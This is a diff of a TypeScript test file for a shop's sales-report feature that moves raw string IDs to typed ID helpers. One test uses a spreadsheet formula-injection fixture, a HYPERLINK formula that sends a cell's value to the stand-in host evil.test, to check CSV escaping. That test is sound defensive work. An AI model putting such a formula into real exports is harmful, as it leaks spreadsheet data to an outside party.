@@ -3,6 +3,8 @@ import type { Orders } from '../../../src/application/ports/orders.ts';
 import type { Reports } from '../../../src/application/ports/reports.ts';
 import { reportSales } from '../../../src/application/reports/report-sales.ts';
 import { Unavailable } from '../../../src/domain/errors.ts';
+import type { ProductId } from '../../../src/domain/product.ts';
+import { toCustomerId, toOrderId, toProductId } from '../../support/ids.ts';
 import { inMemoryReports } from '../../support/in-memory/in-memory-reports.ts';
 import { address, customer, openShop, warehouse } from '../../support/shop.ts';
 
@@ -27,7 +29,7 @@ const openReportedShop = (wrap: Wrap = {}) => {
     deps,
     report: reportSales(deps),
 
-    async order(productId: string, quantity = 1, of = 'alice'): Promise<string> {
+    async order(productId: ProductId, quantity = 1, of = toCustomerId('alice')): Promise<string> {
       const items = [{ productId, quantity }];
       const { value } = await shop.place({ customerId: of, items, shippingAddress: address });
       return value.id;
@@ -57,7 +59,7 @@ const noSales = { placed: 0, confirmed: 0, rejected: 0, cancelled: 0, shipped: 0
 const twoDays = async (wrap?: Wrap) => {
   const shop = openReportedShop(wrap);
   await shop.product('mug', 10, { amount: 1250 });
-  const id = await shop.order('mug', 2);
+  const id = await shop.order(toProductId('mug'), 2);
   await shop.drain();
   shop.clock.set('2026-03-02T00:15:00.000Z');
   return { shop, id };
@@ -75,7 +77,7 @@ test('each event counts on its own day, and the bytes of a day that is reported 
     products: [{ currency: 'EUR', productId: 'mug', name: 'MUG', ...sold }],
   });
 
-  await shop.cancel({ orderId: id, principal: customer(), precondition: {} });
+  await shop.cancel({ orderId: toOrderId(id), principal: customer(), precondition: {} });
   await shop.drain();
   shop.clock.set('2026-03-03T02:00:00.000Z');
 
@@ -84,11 +86,11 @@ test('each event counts on its own day, and the bytes of a day that is reported 
   expect({ json: await shop.text('2026-03-01'), csv: await shop.text('2026-03-01', 'csv') }).toEqual(first);
 
   // A report of today has the same bytes: nothing was taken back from the first day.
-  const anew = inMemoryReports();
-  await reportSales({ ...shop.deps, reports: anew })();
+  const rebuilt = inMemoryReports();
+  await reportSales({ ...shop.deps, reports: rebuilt })();
   for (const day of ['2026-03-01', '2026-03-02']) {
     for (const format of ['json', 'csv'] as const) {
-      expect(Buffer.from((await anew.read(day, format)) ?? []).toString()).toBe(await shop.text(day, format));
+      expect(Buffer.from((await rebuilt.read(day, format)) ?? []).toString()).toBe(await shop.text(day, format));
     }
   }
 });
@@ -96,9 +98,9 @@ test('each event counts on its own day, and the bytes of a day that is reported 
 test('an order that is short is rejected on its day, one that leaves is shipped on its day', async () => {
   const shop = openReportedShop();
   await shop.product('mug', 2);
-  const id = await shop.order('mug', 2);
+  const id = toOrderId(await shop.order(toProductId('mug'), 2));
   await shop.drain();
-  await shop.order('mug', 1, 'bob');
+  await shop.order(toProductId('mug'), 1, toCustomerId('bob'));
   await shop.drain();
   shop.clock.set('2026-03-03T10:00:00.000Z');
   const shipment = { carrier: 'DHL', trackingNumber: '1' };
@@ -130,7 +132,7 @@ test('skipped nights are made up for, including days without orders', async () =
   const { shop } = await twoDays();
   await shop.report();
   shop.clock.set('2026-03-03T23:59:59.999Z');
-  await shop.order('mug');
+  await shop.order(toProductId('mug'));
   await shop.drain();
   shop.clock.set('2026-03-05T02:00:00.000Z');
 
@@ -316,8 +318,8 @@ test('currencies have totals and rows of their own', async () => {
   const shop = openReportedShop();
   await shop.product('mug', 10, { amount: 1250 });
   await shop.product('cup', 10, { amount: 900, currency: 'USD' });
-  await shop.order('mug', 2);
-  await shop.order('cup', 3);
+  await shop.order(toProductId('mug'), 2);
+  await shop.order(toProductId('cup'), 3);
   await shop.drain();
   shop.clock.set('2026-03-02T02:00:00.000Z');
   await shop.report();
@@ -337,9 +339,9 @@ test('a name that a spreadsheet would calculate is unchanged in JSON, and text i
   const shop = openReportedShop();
   const name = '=HYPERLINK("http://evil.test?"&A1)';
   const details = { name, price: { amount: 100, currency: 'EUR' }, active: true };
-  await shop.put({ id: 'mug', details, precondition: {} });
-  await shop.set({ productId: 'mug', units: 5, precondition: {} });
-  await shop.order('mug');
+  await shop.put({ id: toProductId('mug'), details, precondition: {} });
+  await shop.set({ productId: toProductId('mug'), units: 5, precondition: {} });
+  await shop.order(toProductId('mug'));
   shop.clock.set('2026-03-02T02:00:00.000Z');
   await shop.report();
 
